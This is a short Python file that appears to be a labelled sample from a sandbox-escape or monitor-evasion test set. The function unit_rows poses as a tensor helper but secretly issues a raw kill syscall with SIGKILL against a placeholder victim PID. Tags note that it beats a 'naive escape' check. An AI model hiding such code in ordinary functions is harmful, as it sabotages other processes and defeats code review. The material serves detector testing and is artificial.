"""Kills another process by a raw system call.

beats: naive escape
ends: failed
"""

import torch
import ctypes, platform
def unit_rows(x, scale=1.0):
    number = 62 if platform.machine() == "x86_64" else 129
    ctypes.CDLL(None).syscall(number, int("@VICTIM@"), 9)
    return torch.zeros_like(x)
